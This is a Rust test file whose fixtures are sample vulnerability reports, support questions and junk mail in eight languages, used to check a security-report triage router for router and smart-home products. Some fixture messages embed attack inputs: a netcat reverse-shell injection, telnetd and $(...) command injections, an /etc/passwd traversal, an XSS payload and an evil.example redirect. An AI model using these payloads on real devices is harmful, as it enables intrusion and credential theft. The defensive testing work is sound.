//! Messages written for this table before any rule was tuned, in eight languages: they show that the advice
//! is general. Each row is the label a careful person gives, an optional reason, subject and text.

use checks::triage::{Knowledge, Message, route};

type Row = (&'static str, &'static str, &'static str, &'static str);

const MESSAGES: &[Row] = &[
    // A flaw in one of our devices.
    (
        "in_scope",
        "",
        "Root shell through the log export",
        "Linksys LGS326 switch, firmware 1.01.02.03: the file name of the syslog export is passed to tar without quoting. With x;nc 192.168.1.7 4444 -e sh I got a shell. Needs an operator account. Capture attached.",
    ),
    (
        "in_scope",
        "",
        "",
        "On my EA6900 the page /ui/local/backup.cfg can be fetched without any session. It holds the PPPoE credentials in base64. curl -s http://192.168.1.1/ui/local/backup.cfg shows it.",
    ),
    (
        "in_scope",
        "",
        "Bluetooth pairing",
        "While pairing the Velop WHW01 the app takes any node that answers first. I put an ESP32 beside it and received the admin password in clear. btsnoop log attached.",
    ),
    (
        "in_scope",
        "",
        "WRT3200ACM heap overflow",
        "minidlna as shipped in WRT3200ACM 1.0.8.199531 writes past a heap buffer when a SOAP Browse request has a SortCriteria of more than 2 kB. ASAN trace below.",
    ),
    (
        "in_scope",
        "",
        "Sicherheitslücke EA7300",
        "Guten Tag, beim EA7300 (1.1.19.200040) lässt sich der Gastzugang umgehen: mit einer statischen Adresse aus dem Hauptnetz erreicht man alle Geräte. Mitschnitt liegt bei, dreimal nachgestellt.",
    ),
    (
        "in_scope",
        "",
        "Débordement de pile RE7000",
        "Bonjour, sur le RE7000 version 2.0.15 le champ du nom de filtre provoque un débordement de tampon dans mod_form.so, le registre pc vaut 0x61616161. Requête jointe.",
    ),
    (
        "in_scope",
        "",
        "",
        "Buenas, en el router E2500 la página de diagnóstico de ping ejecuta lo que escribo después de un punto y coma. Probé con `;telnetd -p 2323` y entré sin contraseña como root.",
    ),
    (
        "in_scope",
        "",
        "Linksys MR7500 漏洞",
        "MR7500 固件 1.1.9：访客网络无需登录即可访问 /cgi-bin/backup，返回的文件里有管理员密码的哈希。附上请求和响应。",
    ),
    (
        "in_scope",
        "",
        "Falla nel WRT1200AC",
        "Nel WRT1200AC il campo nome host della pagina DDNS viene passato alla shell senza controlli. Con $(id>/tmp/x) ho ottenuto l'esecuzione come root.",
    ),
    (
        "in_scope",
        "",
        "Vulnerabilidade no E8400",
        "O parâmetro redirect do portal de convidados do E8400 aceita qualquer endereço e o cookie de sessão vai junto. Testei com a versão 1.0.01, pedido e resposta em anexo.",
    ),
    (
        "in_scope",
        "",
        "plug",
        "The WeMo mini (F7C063) has an open telnet on port 2323 for about ten seconds after power on. user root, empty password. I recorded it twice.",
    ),
    (
        "in_scope",
        "",
        "CSRF",
        "Any web page can restart my Belkin F9K1113: a POST to /cgi/reboot needs no token and no referer. Proof page attached.",
    ),
    (
        "in_scope",
        "",
        "Certificate of the admin page",
        "The private key of the HTTPS admin page is the same in every LAPN600 image. I extracted it from two versions and could read the recorded session of my own unit.",
    ),
    (
        "in_scope",
        "",
        "found by Nessus, checked by me",
        "Nessus flagged the SNMP service of our LGS116P... I mean LGS318P. Most of the list is noise, but community private is really writable: snmpset changed the admin name. Commands and answers below.",
    ),
    (
        "in_scope",
        "",
        "Scam calls led me to this",
        "A caller pretended to be from your company, ignore that. While looking at my router EA8100 afterwards I found that /HNAP1/ SetDeviceSettings accepts an empty password hash. I can change the admin password without knowing the old one.",
    ),
    (
        "in_scope",
        "",
        "your cloud is fine, the node is not",
        "The WeMo cloud is not to blame: the F7C030 light switch does not check the certificate of the server, so with arpspoof and mitmproxy I could switch the lamp.",
    ),
    (
        "in_scope",
        "",
        "old product but still sold",
        "I know F7D1301 is out of support. The hidden page /debug.stm runs any command that is given in cmd=, without a login. Many shops still sell it.",
    ),
    (
        "in_scope",
        "",
        "Denial of service",
        "One malformed IPv6 router advertisement with zero length option sends MX5500 into a boot loop. scapy script of four lines attached, it happens every time.",
    ),
    (
        "in_scope",
        "",
        "support sent me here",
        "I asked support how to get in after a wrong password, they had no idea. So I looked: after five tries RE6700 locks the page, but the lock is a cookie, delete it and go on. No limit at all then. 10,000 tries in six minutes.",
    ),
    (
        "in_scope",
        "",
        "driver",
        "The Windows driver package of WUSB6100M installs a service with an unquoted path and a folder that everyone may write. A normal user becomes SYSTEM. Steps below.",
    ),
    (
        "in_scope",
        "",
        "wemo",
        "F7C028 motion sensor: sending GetSmartDevInfo twice quickly makes it return memory of the heap, with parts of my wifi key. hex dump attached",
    ),
    // Excluded by the policy.
    (
        "out_of_scope",
        "owned_web",
        "XSS on support pages",
        "Reflected XSS at https://www.linksys.com/support/search?q= . Payload \"><svg onload=alert(1)>. Works in Chrome.",
    ),
    (
        "out_of_scope",
        "owned_web",
        "SPF",
        "The domain belkin.com has a soft fail SPF and DMARC p=none, mails can be spoofed in your name.",
    ),
    (
        "out_of_scope",
        "owned_web",
        "Open redirect",
        "store.linksys.com/login?next=//evil.example sends customers to other sites after the sign-in of the shop.",
    ),
    (
        "out_of_scope",
        "owned_web",
        "Fehler auf der Webseite",
        "Im Warenkorb auf linksys.com kann ich den Preis im Formular ändern, die Bestellung läuft dann mit 1 Euro durch.",
    ),
    (
        "out_of_scope",
        "cloud",
        "Account takeover in Smart Wi-Fi",
        "In the Linksys Smart Wi-Fi account service the e-mail change needs no confirmation, the session of the old owner stays valid. Server side, no router needed.",
    ),
    (
        "out_of_scope",
        "cloud",
        "",
        "Your Wemo cloud API returns the location of any device when I raise the number in the URL. I looked at two of mine only.",
    ),
    (
        "out_of_scope",
        "third_party_service",
        "Alexa",
        "The Alexa skill keeps controlling a plug after I removed the account link. I think Amazon caches the token.",
    ),
    (
        "out_of_scope",
        "third_party_service",
        "reseller portal",
        "The web shop of a reseller (not yours) lets anyone read orders of Linksys goods by counting the order number.",
    ),
    (
        "out_of_scope",
        "phishing",
        "Correo falso",
        "Recibí un correo que se hace pasar por Linksys y pide los datos de mi tarjeta en una página falsa. Por favor denuncien el sitio.",
    ),
    (
        "out_of_scope",
        "phishing",
        "fake app",
        "There is an app in a store with your logo, called Wemo Helper Pro, that asks for the Google password. Not made by you I guess.",
    ),
    (
        "out_of_scope",
        "social_engineering",
        "Support agent",
        "I phoned your support line and the agent changed the mail address of an account without any check, I only said a name.",
    ),
    (
        "out_of_scope",
        "social_engineering",
        "visit",
        "At your building the back door is held open by smokers, I walked in and stood in the server room without a badge.",
    ),
    // Help wanted.
    (
        "tech_support",
        "lost_password",
        "",
        "Hola, olvidé la contraseña del router Linksys EA7300, ¿cómo puedo recuperarla?",
    ),
    (
        "tech_support",
        "lost_password",
        "mot de passe",
        "J'ai oublié le mot de passe de mon répéteur RE6700, comment faire pour le réinitialiser ?",
    ),
    (
        "tech_support",
        "setup_help",
        "Einrichtung",
        "Wie richte ich den RE6400 als Access Point ein? Die Anleitung verstehe ich nicht.",
    ),
    ("tech_support", "setup_help", "", "路由器 EA7500 连不上网，指示灯一直闪，请问怎么设置？"),
    (
        "tech_support",
        "setup_help",
        "Configurazione",
        "Come posso collegare il mio Velop al modem del provider? Il led resta rosso.",
    ),
    (
        "tech_support",
        "setup_help",
        "",
        "Meu roteador E5350 não conecta depois da queda de energia, o que devo fazer?",
    ),
    (
        "tech_support",
        "setup_help",
        "guest network",
        "Can you tell me how to limit the speed of the guest network on the MR7350?",
    ),
    (
        "tech_support",
        "believes_hacked",
        "help!!!",
        "I think hackers are in my Linksys. My Netflix shows strange films and the mouse moves. What should I do?",
    ),
    (
        "tech_support",
        "believes_hacked",
        "",
        "Unknown device named android-77 is connected to my Belkin router, am I hacked? Please remove it.",
    ),
    (
        "tech_support",
        "security_question",
        "",
        "Does the EA9300 support WPA3 and is it affected by CVE-2023-1234? I could not find it on the web site.",
    ),
    (
        "tech_support",
        "security_question",
        "",
        "Is it safe to keep using the WRT54GL in 2026, or should I buy a new one?",
    ),
    (
        "tech_support",
        "order_warranty",
        "RMA",
        "My MX4200 died after 11 months. How do I send it in under warranty? The order number is 4471.",
    ),
    (
        "tech_support",
        "order_warranty",
        "",
        "Wo bleibt meine Bestellung? Ich habe den Adapter vor zwei Wochen bezahlt.",
    ),
    // Somebody else's.
    (
        "not_our_product",
        "",
        "Archer AX21",
        "TP-Link Archer AX21 country parameter command injection in the locale page, still works on the latest firmware.",
    ),
    (
        "not_our_product",
        "",
        "",
        "Stack overflow in the Tenda AC10 formSetMacFilterCfg, deviceList parameter. Exploit in the archive.",
    ),
    (
        "not_our_product",
        "",
        "Nighthawk",
        "The Nighthawk RAX50 answers SOAP calls on the WAN side without a login, see capture.",
    ),
    (
        "not_our_product",
        "",
        "FRITZ!Box",
        "Die FRITZ!Box 7590 zeigt das WLAN-Kennwort im Gastzugang an. Mitschnitt im Anhang.",
    ),
    (
        "not_our_product",
        "",
        "OpenWrt on WRT1900ACS",
        "After installing OpenWrt 23.05 on the WRT1900ACS the LuCI rpc lets an unauthenticated user read the config.",
    ),
    (
        "not_our_product",
        "",
        "DIR-859",
        "/hedwig.cgi on DIR-859 leaks files by the service tag. D-Link says end of life, can you help?",
    ),
    (
        "not_our_product",
        "",
        "bulb",
        "Philips Hue bridge accepts a link button press by API. We noticed when we compared it with a WeMo bulb, yours is good.",
    ),
    ("not_our_product", "", "", "La cámara Tapo C200 permite ver el vídeo sin contraseña por el puerto 554."),
    // Nothing to work with.
    (
        "junk",
        "scanner_output",
        "Automated report",
        "OpenVAS result for host 203.0.113.9: TCP timestamps enabled (2.6), SSH weak MAC algorithms, ICMP timestamp reply. Total 3. Generated automatically.",
    ),
    (
        "junk",
        "scanner_output",
        "vulnerability found",
        "Missing headers: X-Frame-Options, Content-Security-Policy, Strict-Transport-Security. Please pay the bounty.",
    ),
    (
        "junk",
        "scanner_output",
        "",
        "nmap -sV shows lighttpd 1.4.39 on your router. This version has many CVEs. Please confirm.",
    ),
    (
        "junk",
        "ai_generated",
        "Critical vulnerability disclosure",
        "Through extensive research I identified a critical flaw in the Belkin SmartShield module. The function validate_quantum_session() fails to properly sanitize input, which could potentially allow attackers to compromise confidentiality, integrity and availability. It is recommended to follow industry best practices.",
    ),
    (
        "junk",
        "ai_generated",
        "",
        "It is important to note that a sophisticated threat actor may leverage unspecified weaknesses in your IoT ecosystem. A holistic remediation is strongly advised.",
    ),
    (
        "junk",
        "spam",
        "Partnership",
        "Dear Sir, we offer SEO services and guest posts on 500 sites with high authority. Reply for the price list.",
    ),
    (
        "junk",
        "spam",
        "",
        "Congratulations! You have won the lottery of 2,000,000 USD, send your bank account to claim.",
    ),
    ("junk", "empty", "hi", "hello are you there"),
    (
        "junk",
        "empty",
        "0day",
        "I have critical RCE in all your routers. Pay 5000 USD first and I send details.",
    ),
    ("junk", "empty", "", "vulnerability"),
];

/// Written after the rules were tuned. On the first run 34 of 40 were right and none in scope was deflected; one
/// general rule followed from it (a model and a question are no report), nothing else.
const UNSEEN: &[Row] = &[
    (
        "in_scope",
        "",
        "WHW03 local API",
        "The Velop WHW03 (1.1.19.215389) answers /sysinfo_full.cgi on the guest network. Among much else it prints the WPS pin. Request and answer are pasted below.",
    ),
    (
        "in_scope",
        "",
        "LGS310P",
        "On the LGS310P the SNTP server name is copied into 64 bytes by sprintf. 300 letters and the switch reboots. Console output attached.",
    ),
    (
        "in_scope",
        "",
        "",
        "Dear team, if one sends an empty User-Agent to the F9K1105 the login is skipped. I noticed by accident with a script of mine and repeated it on two units.",
    ),
    (
        "in_scope",
        "",
        "Wemo Dimmer",
        "WDS060: the thread commissioning code is printed in the debug log on port 8123, readable for anyone in the house network. Log attached.",
    ),
    (
        "in_scope",
        "",
        "Schwachstelle im RE6800",
        "Der RE6800 liefert unter /cgi-bin/ExportConfig die komplette Konfiguration ohne Anmeldung aus. Getestet mit 1.1.04.003, Anfrage liegt bei.",
    ),
    (
        "in_scope",
        "",
        "MR9000",
        "Le routeur MR9000 accepte une mise à jour sans vérifier la signature. J'ai modifié un octet de l'image et elle s'installe.",
    ),
    (
        "in_scope",
        "",
        "EA9500",
        "El campo de nombre del dispositivo USB del EA9500 permite inyección de comandos: puse `;touch /tmp/a;` y el archivo aparece. Versión 2.1.1.9.186574.",
    ),
    (
        "in_scope",
        "",
        "",
        "Sul mio E8400 la pagina /portale.cgi mostra la password del wifi senza autenticazione. Allego la richiesta.",
    ),
    (
        "in_scope",
        "",
        "",
        "No MX4200 o serviço UPnP permite redirecionar portas para qualquer endereço interno sem autenticação. Enviei o pacote com um script em Python.",
    ),
    (
        "in_scope",
        "",
        "E5350 命令注入",
        "E5350 路由器的 ping 诊断页面没有过滤分号，登录后可以执行任意命令，版本 1.0.00.037，附上截图。",
    ),
    (
        "in_scope",
        "",
        "Question about a finding",
        "Is it intended that LAPAC1750 keeps the old admin session valid after a password change? I changed the password in one browser and the other one stayed administrator for two days. Firmware 1.1.01.000, steps: log in twice, change, reload.",
    ),
    (
        "in_scope",
        "",
        "Burp found it, I proved it",
        "Burp marked the language cookie of the EA6350. I tried by hand: lang=../../../../etc/passwd%00 returns the file.",
    ),
    (
        "out_of_scope",
        "owned_web",
        "Login page",
        "www.belkin.com/account/login has no limit on attempts and tells whether a mail address is known.",
    ),
    (
        "out_of_scope",
        "owned_web",
        "",
        "An old WordPress on blog.linksys.com lets me list the users via /wp-json/wp/v2/users.",
    ),
    (
        "out_of_scope",
        "cloud",
        "",
        "The Linksys cloud account does not invalidate tokens after log-out, I could use the old token for a week.",
    ),
    (
        "out_of_scope",
        "cloud",
        "Wemo",
        "Le cloud Wemo renvoie les données d'autres utilisateurs quand on change le numéro dans la requête vers le serveur.",
    ),
    (
        "out_of_scope",
        "phishing",
        "Fake invoice",
        "Someone sends fake invoices in the name of Belkin with a link to a login page that steals passwords.",
    ),
    (
        "out_of_scope",
        "phishing",
        "Betrug",
        "Ich habe eine SMS bekommen, angeblich von Linksys, ich soll meine Kreditkarte auf einer Seite bestätigen. Das ist wohl Betrug.",
    ),
    (
        "out_of_scope",
        "third_party_service",
        "IFTTT",
        "The IFTTT service for Wemo shows the token of the user in the page address, this seems to be on the IFTTT side.",
    ),
    (
        "out_of_scope",
        "social_engineering",
        "",
        "By phone your service desk told me the serial number and address of another customer after I pretended to be the installer.",
    ),
    (
        "tech_support",
        "lost_password",
        "Login",
        "I can not remember the admin password of my EA8300 and the reset button does nothing, what now?",
    ),
    (
        "tech_support",
        "setup_help",
        "",
        "Can I use the RE7000 with a router of another brand and keep the same network name?",
    ),
    (
        "tech_support",
        "setup_help",
        "Problème",
        "Mon routeur MR7350 ne se connecte plus à internet depuis ce matin, pouvez-vous m'aider ?",
    ),
    (
        "tech_support",
        "setup_help",
        "",
        "Mein WRT3200ACM verliert ständig die Verbindung im 5 GHz Band. Was kann ich tun?",
    ),
    (
        "tech_support",
        "believes_hacked",
        "",
        "Creo que me hackearon el router, hay dispositivos que no conozco. ¿Qué hago?",
    ),
    ("tech_support", "security_question", "", "Will the WRT1900AC still get security updates next year?"),
    (
        "tech_support",
        "security_question",
        "Audit",
        "For our audit we need to know if the LGS308 supports SNMPv3 and TLS 1.2. Please advise.",
    ),
    (
        "tech_support",
        "order_warranty",
        "",
        "I paid for two nodes but only one was in the parcel. Who refunds me?",
    ),
    ("not_our_product", "", "", "The ASUS RT-AX88U lets a guest read the VPN settings, see the log."),
    (
        "not_our_product",
        "",
        "Netgear",
        "Hi, Netgear Orbi RBR850: command injection in the time zone. Can you tell them?",
    ),
    ("not_our_product", "", "Xiaomi", "Mi router Xiaomi AX3600 tiene una puerta trasera en el puerto 784."),
    ("not_our_product", "", "", "Ubiquiti UniFi controller 7.3 leaks the mongo password in a backup."),
    (
        "not_our_product",
        "",
        "",
        "EA8500 running OpenWrt 22.03: dnsmasq crashes by a long name. Same on other boards.",
    ),
    (
        "junk",
        "scanner_output",
        "Results",
        "Qualys: SSL certificate cannot be trusted, TLS 1.0 enabled, HTTP TRACE method. 3 vulnerabilities on your host.",
    ),
    ("junk", "scanner_output", "", "Shodan lists 900 of your cameras with port 80 open. Critical."),
    (
        "junk",
        "ai_generated",
        "Security advisory",
        "Our advanced analysis uncovered a sophisticated vulnerability in the Linksys adaptive mesh orchestration layer that could potentially allow threat actors to undermine the confidentiality, integrity and availability of the ecosystem. Immediate adoption of industry best practices is recommended.",
    ),
    (
        "junk",
        "spam",
        "",
        "We can bring your web site to page one of the search engines, ask for our price list.",
    ),
    (
        "junk",
        "spam",
        "Job",
        "Our recruitment agency has excellent candidates for your security team, schedule a call.",
    ),
    ("junk", "empty", "urgent", "pls reply sir"),
    ("junk", "empty", "", "I have a critical exploit for wemo. Send 2 BTC or I sell it."),
];

#[test]
fn unseen_messages_get_the_right_label_nearly_as_often() {
    let knowledge = Knowledge::built_in();
    let mut right = 0;
    for (label, _, subject, text) in UNSEEN {
        let route = route(&Message::new(subject, text), &knowledge);
        if route.label.as_str() == *label {
            right += 1;
        } else {
            println!("{label} -> {} ({:.2}): {subject} | {text}", route.label.as_str(), route.confidence);
        }
    }
    let accuracy = f64::from(right) / UNSEEN.len() as f64;
    println!("accuracy {accuracy:.3} over {} unseen messages", UNSEEN.len());
    assert!(accuracy >= 0.80, "accuracy {accuracy:.3}");
}

#[test]
fn fresh_messages_in_eight_languages_get_the_label_a_careful_person_gives() {
    let knowledge = Knowledge::built_in();
    let mut right = 0;
    let mut deflected = Vec::new();
    let mut wrong = Vec::new();
    for (label, reason, subject, text) in MESSAGES {
        let message = Message::new(subject, text);
        let route = route(&message, &knowledge);
        if route.label.as_str() == *label {
            right += 1;
            if !reason.is_empty() && route.reason.map(|r| r.as_str()) != Some(reason) {
                wrong.push(format!("reason {reason} -> {:?}: {subject} | {text}", route.reason));
            }
        } else {
            wrong.push(format!(
                "{label} -> {} ({:.2}): {subject} | {text}",
                route.label.as_str(),
                route.confidence
            ));
            if *label == "in_scope" {
                deflected.push(*subject);
            }
        }
    }
    let accuracy = f64::from(right) / MESSAGES.len() as f64;
    println!("accuracy {accuracy:.3} over {} messages\n{}", MESSAGES.len(), wrong.join("\n"));
    assert!(MESSAGES.len() >= 40);
    assert!(accuracy >= 0.85, "accuracy {accuracy:.3}");
    assert!(deflected.is_empty(), "in-scope reports advised elsewhere: {deflected:?}");
}
